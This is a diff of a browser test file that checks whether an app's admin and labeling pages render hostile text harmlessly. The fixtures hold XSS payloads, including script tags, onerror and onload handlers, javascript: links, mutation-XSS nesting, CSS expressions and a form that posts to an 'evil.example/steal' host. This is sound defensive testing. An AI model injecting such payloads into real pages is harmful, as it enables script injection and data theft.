@@ -34,7 +34,8 @@ MARKUP = [
     "<style>body{display:none}</style><div style=\"position:fixed;inset:0;z-index:2147483647;background:#fff\">"
     "covering overlay</div>",
     "<form action=\"http://evil.example/steal\"><input name=q></form> <meta http-equiv=\"refresh\" "
-    "content=\"0;url=http://evil.example/\"> <base href=\"http://evil.example/\"> <link rel=stylesheet href=//evil.example/c>",
+    "content=\"0;url=http://evil.example/\"> <base href=\"http://evil.example/\"> "
+    "<link rel=stylesheet href=//evil.example/c>",
     "<div style=\"width: expression(window.__pwned='expression')\">CSS expression</div> "
     "<div hx-get=\"http://evil.example/htmx\" hx-trigger=\"load\">htmx attributes</div> {{ 7*7 }}",
     HUGE,
@@ -47,7 +48,8 @@ LONG_LINES = [
     "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned='mxss'></style></mglyph></table>",
 ]
 CHAT = [{"role": "system", "content": "<script>window.__pwned='system'</script> " + "S" * 3000},
-        {"role": "user", "content": f"[turn](javascript:window.__pwned='turn') <svg/onload=window.__pwned='turn'> {RLO}abc"}]
+        {"role": "user",
+         "content": f"[turn](javascript:window.__pwned='turn') <svg/onload=window.__pwned='turn'> {RLO}abc"}]
 NAME = "Evil \"quoted\" <script>window.__pwned='name'</script> " + "N" * 120 + f" {RLO}eman"
 GUIDELINES = ("# Rules\n\n<script>window.__pwned='guidelines'</script>\n\n[help](javascript:window.__pwned='guide')\n\n"
               "<div style=\"position:fixed;inset:0;z-index:99\">overlay</div>\n\n" + "G" * 5000)
@@ -55,12 +57,14 @@ GUIDELINES = ("# Rules\n\n<script>window.__pwned='guidelines'</script>\n\n[help]
 TRIPWIRES = """(() => {
   const trip = (kind, detail) => window.__trip(kind, String(detail));
   Object.defineProperty(window, "__pwned", { get() { return undefined; }, set(v) { trip("pwned", v); } });
-  document.addEventListener("securitypolicyviolation", e => trip("csp", e.violatedDirective + " " + e.blockedURI), true);
+  document.addEventListener("securitypolicyviolation",
+                            e => trip("csp", e.violatedDirective + " " + e.blockedURI), true);
 })();"""
 
 # For a failure message: the outermost elements that stick out past the viewport's right edge.
 WIDER = """() => [...document.querySelectorAll("body *")]
-  .filter(e => e.getBoundingClientRect().right > innerWidth + 1 && !(e.parentElement.getBoundingClientRect().right > innerWidth + 1))
+  .filter(e => e.getBoundingClientRect().right > innerWidth + 1
+               && !(e.parentElement.getBoundingClientRect().right > innerWidth + 1))
   .map(e => `${e.tagName}.${e.className} ${Math.round(e.getBoundingClientRect().right)}px`).slice(0, 5)"""
 
 
@@ -129,8 +133,8 @@ def _check_task(page) -> None:
         card = cards.nth(i)
         assert _hittable(card.locator(".drag-handle")), f"drag handle {i} is covered or off screen"
         # A right-to-left override in the text never flips the card's own controls.
-        head = card.locator(".card-head").evaluate(
-            "h => ['.drag-handle', '.rank-badge', '.card-name'].map(s => h.querySelector(s).getBoundingClientRect().left)")
+        head = card.locator(".card-head").evaluate("""h => ['.drag-handle', '.rank-badge', '.card-name']
+            .map(s => h.querySelector(s).getBoundingClientRect().left)""")
         assert head == sorted(head), head
         assert card.locator(".completion-body").evaluate("b => getComputedStyle(b).unicodeBidi") == "isolate"
     assert _hittable(page.locator("button[type=submit].primary"))
@@ -194,8 +198,8 @@ def _seed_admin_pages(db):
     shared = db.scalar(select(Prompt).where(Prompt.project_id == project.id, Prompt.text.is_(None)))  # the chat one
     db.add_all([Completion(prompt_id=shared.id, text=t, model_version_id=v.id)
                 for v, texts in ((left, MARKUP[:4]), (right, MARKUP[4:])) for t in texts])
-    live = make_round(db, project, number=0, status="labeling", current_step="<img src=x onerror=window.__pwned='step'>",
-                      policy_in_id=left.id)
+    live = make_round(db, project, number=0, status="labeling", policy_in_id=left.id,
+                      current_step="<img src=x onerror=window.__pwned='step'>")
     for message in MARKUP[:3] + [HUGE[:5000]]:
         add_event(db, live, stage="<b>stage</b>", message=message)
     failed = make_round(db, project, number=1, status="failed", error_step="training_reward",
@@ -242,7 +246,8 @@ def test_admin_pages_show_hostile_text_inert(live_url, browser, db, viewport):
     # The live round page: its log tail comes back every poll, swapped in by htmx.
     page.goto(f"{live_url}/admin/rounds/{live.id}")
     watch.assert_inert_and_fits()
-    settled = "() => new Promise(done => document.body.addEventListener('htmx:afterSettle', () => done(true), {once: true}))"
+    settled = """() => new Promise(done =>
+        document.body.addEventListener('htmx:afterSettle', () => done(true), { once: true }))"""
     assert page.evaluate(settled) is True
     assert page.locator(".log-message").count() == 4
     watch.assert_inert_and_fits()
